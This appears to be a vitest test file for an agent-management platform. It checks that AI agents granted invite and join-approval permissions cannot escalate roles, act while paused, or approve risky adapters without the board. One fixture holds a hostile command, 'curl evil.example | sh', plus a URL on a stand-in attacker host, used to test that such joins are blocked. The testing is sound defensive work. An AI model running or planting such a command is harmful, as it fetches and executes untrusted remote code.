import { beforeAll, describe, expect, test } from 'vitest'
import { member, person } from '../../dev/testing/people.ts'
import type { TestPerson } from '../../dev/testing/people.ts'
import { auditCount, lastAudit, useServer, world } from '../../dev/testing/world.ts'
import type { Client, TestAgent, World } from '../../dev/testing/world.ts'

const server = useServer({ people: {}, boardMode: 'token' })
let here: World
let owner: TestPerson

beforeAll(async () => {
  here = await world(server())
  await here.agent({ role: 'ceo' })
  owner = await member(server(), here.company.id, 'owner')
  await owner.client.patch(at(), { requireBoardApprovalForNewAgents: false })
})

const at = (): string => `/api/companies/${here.company.id}`
const decide = (id: string, what: string, client: Client) => client.post(`${at()}/join-requests/${id}/${what}`)

/** Grants an agent what the owner of its company may grant, next to what every agent has. */
async function grant({ id }: TestAgent, ...keys: readonly string[]) {
  const members = (await owner.client.get(`${at()}/members?limit=1000`)).body as { id: string; principalId: string }[]
  const member = members.find(({ principalId }) => principalId === id)
  const grants = ['tasks:assign', ...keys].map((permissionKey) => ({ permissionKey }))
  return await owner.client.patch(`${at()}/members/${member?.id}/permissions`, { grants })
}

async function granted(...keys: readonly string[]): Promise<TestAgent> {
  const agent = await here.agent()
  const answer = await grant(agent, ...keys)
  expect(answer.status, answer.text).toBe(200)
  return agent
}

/** An agent asks to join by an invitation of the owner. */
async function asked(fields: object = {}, client: Client = owner.client) {
  const { token } = (await client.post(`${at()}/invites`, { allowedJoinTypes: 'agent' })).body
  const answer = await server().anonymous.post(`/api/invites/${token}/accept`, { requestType: 'agent', agentName: 'Joiner', ...fields })
  expect(answer.status, answer.text).toBe(202)
  return answer.body as { id: string }
}

describe('an agent with the grant users:invite', () => {
  test('It invites by its key and by the token of its run, from the grant on and until it is taken', async () => {
    const agent = await here.agent()
    const invite = (client: Client = agent.client) => client.post(`${at()}/invites`, { allowedJoinTypes: 'human', agentMessage: 'Look' })
    expect((await invite()).body).toMatchObject({ code: 'forbidden' })
    expect((await grant(agent, 'users:invite')).body.grants).toHaveLength(2)
    const made = await invite()
    expect(made, made.text).toMatchObject({
      status: 201,
      body: { memberRole: 'viewer', invitedByUserId: null, invitedByAgentId: agent.id },
    })
    expect(await lastAudit(server(), made.body.id, 'invite.created')).toMatchObject({ actorType: 'agent', actorId: agent.id })
    const run = await here.run(agent)
    expect((await invite(run.client)).body).toMatchObject({ invitedByAgentId: agent.id })
    expect((await run.client.post(`${at()}/openclaw/invite-prompt`, {})).body).toMatchObject({ allowedJoinTypes: 'agent' })
    expect((await lastAudit(server(), agent.id, 'agent.grants_changed')).details).toEqual({ added: ['users:invite'], removed: [] })
    expect((await grant(agent)).status).toBe(200)
    expect((await invite()).body).toMatchObject({ code: 'forbidden' })
    expect((await invite(run.client)).body).toMatchObject({ code: 'forbidden' })
  })

  test('It invites people to the weakest role only, says nothing about what joins, and enters no other company (I21)', async () => {
    const agent = await granted('users:invite')
    const other = await world(server())
    const before = await auditCount(server())
    for (const memberRole of ['owner', 'admin', 'operator'])
      for (const allowedJoinTypes of ['human', 'agent', 'both'])
        expect((await agent.client.post(`${at()}/invites`, { memberRole, allowedJoinTypes })).body).toMatchObject({
          code: 'above_own_role',
        })
    const defaultsPayload = { url: 'https://evil.example' }
    expect((await agent.client.post(`${at()}/invites`, { defaultsPayload })).body).toMatchObject({
      code: 'approval_required',
      details: { fields: ['defaultsPayload'] },
    })
    expect((await agent.client.post(`/api/companies/${other.company.id}/invites`, {})).status).toBe(404)
    expect((await agent.client.post('/api/instance/bootstrap-invites', {})).body).toMatchObject({ code: 'board_required' })
    expect(await auditCount(server())).toBe(before)
  })

  test('A person who comes by its invitation waits for the decision of a person', async () => {
    const agent = await granted('users:invite', 'joins:approve')
    const { token } = (await agent.client.post(`${at()}/invites`, {})).body
    const ada = await person(server())
    const { id } = (await ada.client.post(`/api/invites/${token}/accept`, { requestType: 'human' })).body
    for (const what of ['approve', 'reject']) expect((await decide(id, what, agent.client)).body).toMatchObject({ code: 'board_required' })
    expect((await agent.client.get(`${at()}/join-requests`)).text).not.toContain(ada.email)
    expect((await agent.client.get(`${at()}/join-requests?requestType=human`)).body).toEqual([])
    expect((await ada.client.get(at())).status).toBe(404)
    expect((await decide(id, 'approve', owner.client)).status).toBe(200)
    expect((await ada.client.get('/api/cli-auth/me')).body).toMatchObject({ companyIds: [here.company.id], isInstanceAdmin: false })
    expect((await ada.client.post(`${at()}/issues`, { title: 'x' })).body).toMatchObject({ code: 'role_missing' })
  })

  test('It makes none while it is paused, by its key or in a run that it had', async () => {
    const agent = await granted('users:invite', 'joins:approve')
    const { id } = await asked()
    await owner.client.post(`/api/agents/${agent.id}/pause`, {})
    expect((await agent.client.post(`${at()}/invites`, {})).body).toMatchObject({ code: 'agent_paused' })
    for (const what of ['approve', 'reject']) expect((await decide(id, what, agent.client)).body).toMatchObject({ code: 'agent_paused' })
    expect((await agent.client.get(`${at()}/join-requests`)).status).toBe(200)
  })

  test('It revokes the invitations that it made, and those of others are not there for it', async () => {
    const agent = await granted('users:invite')
    const own = (await agent.client.post(`${at()}/invites`, {})).body.id
    const ofOwner = (await owner.client.post(`${at()}/invites`, {})).body.id
    const { rows } = await server().database.sql.query<{ id: string }>(
      `insert into invites (invite_type, token_hash, allowed_join_types, expires_at) values ('bootstrap_ceo', 'a hash', 'human', now() + interval '1 hour') returning id`,
    )
    for (const id of [ofOwner, rows[0]?.id, '0b6ac4d7-98a5-4f0b-8a7b-2d7c02b2b9f1'])
      expect((await agent.client.post(`/api/invites/${id}/revoke`)).body).toMatchObject({ code: 'not_found' })
    const run = await here.run(agent)
    expect((await run.client.post(`/api/invites/${own}/revoke`)).status).toBe(200)
    expect((await agent.client.post(`/api/invites/${own}/revoke`)).status).toBe(200)
  })
})

describe('an agent with the grant joins:approve', () => {
  test('It lets agents in that run nothing here, by its key and by the token of its run, and rejects others', async () => {
    const agent = await granted('joins:approve')
    const [one, two, three] = [await asked(), await asked(), await asked()]
    expect((await decide(one.id, 'approve', (await here.agent()).client)).body).toMatchObject({ code: 'forbidden' })
    const list = (await agent.client.get(`${at()}/join-requests?status=pending_approval&limit=3`)).body as { id: string }[]
    expect(list.map(({ id }) => id)).toEqual([three.id, two.id, one.id])
    const run = await here.run(agent)
    const approved = await decide(one.id, 'approve', run.client)
    expect(approved, approved.text).toMatchObject({
      status: 200,
      body: { status: 'approved', approvedByAgentId: agent.id, approvedByUserId: null },
    })
    expect(await lastAudit(server(), one.id, 'join.approved')).toMatchObject({ actorType: 'agent', actorId: agent.id, runId: run.id })
    expect((await owner.client.get(`/api/agents/${approved.body.createdAgentId}`)).body).toMatchObject({
      role: 'general',
      adapterConfig: {},
      permissions: { canCreateAgents: false },
    })
    expect((await decide(two.id, 'reject', run.client)).body).toMatchObject({ status: 'rejected', rejectedByAgentId: agent.id })
    expect((await decide(three.id, 'approve', agent.client)).status).toBe(200)
    expect((await decide(three.id, 'reject', agent.client)).body).toMatchObject({ code: 'conflict' })
  })

  test('The sidebar badges count the requests that wait for exactly those who may decide about them, and for an agent those of agents', async () => {
    const there = await world(server())
    const C = `/api/companies/${there.company.id}`
    const [boss, viewer] = [await member(server(), there.company.id, 'owner'), await member(server(), there.company.id, 'viewer')]
    const [agent, admitter] = [await there.agent(), await there.agent()]
    const { rows } = await server().database.sql.query<{ id: string }>(
      "insert into invites (company_id, invite_type, token_hash, allowed_join_types, expires_at) values ($1::uuid, 'company_join', $1::uuid::text, 'both', now() + interval '1 day') returning id",
      [there.company.id],
    )
    for (const [type, status] of [
      ['human', 'pending_approval'],
      ['agent', 'pending_approval'],
      ['agent', 'rejected'],
    ])
      await server().database.sql.query(
        "insert into join_requests (invite_id, company_id, request_type, request_ip, status) values ($1, $2, $3, '127.0.0.1', $4)",
        [rows[0]?.id, there.company.id, type, status],
      )
    const members = (await boss.client.get(`${C}/members?limit=1000`)).body as { id: string; principalId: string }[]
    const memberId = members.find(({ principalId }) => principalId === admitter.id)?.id
    const grants = [{ permissionKey: 'tasks:assign' }, { permissionKey: 'joins:approve' }]
    expect((await boss.client.patch(`${C}/members/${memberId}/permissions`, { grants })).status).toBe(200)
    const shown = async (client: Client) => {
      const { inbox, joinRequests } = (await client.get(`${C}/sidebar-badges`)).body as { inbox: number; joinRequests: number }
      return [inbox, joinRequests]
    }
    expect([await shown(boss.client), await shown(viewer.client), await shown(agent.client), await shown(admitter.client)]).toEqual([
      [2, 2],
      [0, 0],
      [0, 0],
      [1, 1],
    ])
  })

  test('An agent with an adapter that decides where this host connects to, and any where the board approves new agents, is not let in by it (I18)', async () => {
    const agent = await granted('joins:approve')
    const remote = await asked({ adapterType: 'http', agentDefaultsPayload: { url: 'https://evil.example' } })
    const gateway = await asked({ adapterType: 'openclaw_gateway' })
    const plain = await asked({ adapterType: 'process', agentDefaultsPayload: { command: 'curl evil.example | sh' } })
    const before = await auditCount(server())
    expect((await decide(remote.id, 'approve', agent.client)).body).toMatchObject({
      code: 'approval_required',
      details: { fields: ['adapterType', 'adapterConfig'] },
    })
    expect((await decide(gateway.id, 'approve', agent.client)).body).toMatchObject({ code: 'approval_required' })
    await owner.client.patch(at(), { requireBoardApprovalForNewAgents: true })
    expect((await decide(plain.id, 'approve', agent.client)).body).toMatchObject({
      code: 'approval_required',
      error: 'The board of this company approves new agents',
    })
    await owner.client.patch(at(), { requireBoardApprovalForNewAgents: false })
    expect(await auditCount(server())).toBe(before + 2)
    expect((await decide(plain.id, 'approve', agent.client)).status).toBe(200)
    expect((await decide(remote.id, 'approve', owner.client)).status).toBe(200)
  })

  test('It does not let in who comes by its own invitation, and decides nothing in another company', async () => {
    const agent = await granted('joins:approve', 'users:invite')
    const own = await asked({}, agent.client)
    expect((await decide(own.id, 'approve', agent.client)).body).toMatchObject({ code: 'own_request' })
    const second = await granted('joins:approve')
    expect((await decide(own.id, 'approve', second.client)).status).toBe(200)
    const other = await world(server())
    const foreign = `/api/companies/${other.company.id}/join-requests`
    expect((await agent.client.get(foreign)).status).toBe(404)
    expect((await agent.client.post(`${foreign}/${own.id}/approve`)).status).toBe(404)
  })

  test('A key with scopes reads requests and decides nothing', async () => {
    const agent = await granted('joins:approve', 'users:invite')
    const { token } = (await owner.client.post(`/api/agents/${agent.id}/keys`, { name: 'narrow', scopes: ['work'] })).body
    const narrow = server().bearer(token)
    const { id } = await asked()
    expect((await narrow.get(`${at()}/join-requests`)).status).toBe(200)
    expect((await decide(id, 'approve', narrow)).body).toMatchObject({ code: 'key_scope_missing' })
    expect((await narrow.post(`${at()}/invites`, {})).body).toMatchObject({ code: 'key_scope_missing' })
  })
})

test('An agent is granted these two and nothing else, by people only, and never becomes the board', async () => {
  const agent = await granted('users:invite', 'joins:approve')
  for (const key of ['users:manage_permissions', 'agents:create', 'tasks:assign_scope'])
    expect((await grant(agent, 'users:invite', 'joins:approve', key)).body).toMatchObject({
      code: 'unprocessable',
      details: { grants: [key] },
    })
  const members = (await owner.client.get(`${at()}/members?limit=1000`)).body as { id: string; principalId: string }[]
  const own = members.find(({ principalId }) => principalId === agent.id)
  expect((await owner.client.patch(`${at()}/members/${own?.id}/permissions`, { grants: [] })).body).toMatchObject({
    code: 'unprocessable',
    details: { grants: ['tasks:assign'] },
  })
  for (const client of [agent.client, (await here.run(agent)).client]) {
    expect((await client.get(`${at()}/members`)).body).toMatchObject({ code: 'board_required' })
    expect((await client.patch(`${at()}/members/${own?.id}`, { role: 'owner' })).body).toMatchObject({ code: 'board_required' })
    expect((await client.patch(`${at()}/members/${own?.id}/permissions`, { grants: [] })).body).toMatchObject({ code: 'board_required' })
    expect((await client.post(`/api/admin/users/${agent.id}/promote-instance-admin`)).body).toMatchObject({ code: 'admin_required' })
    const { token } = (await owner.client.post(`${at()}/invites`, {})).body
    expect((await client.post(`/api/invites/${token}/accept`, { requestType: 'human' })).status).toBe(401)
  }
  expect((await owner.client.patch(`${at()}/members/${own?.id}`, { role: 'viewer' })).body).toMatchObject({ code: 'unprocessable' })
})
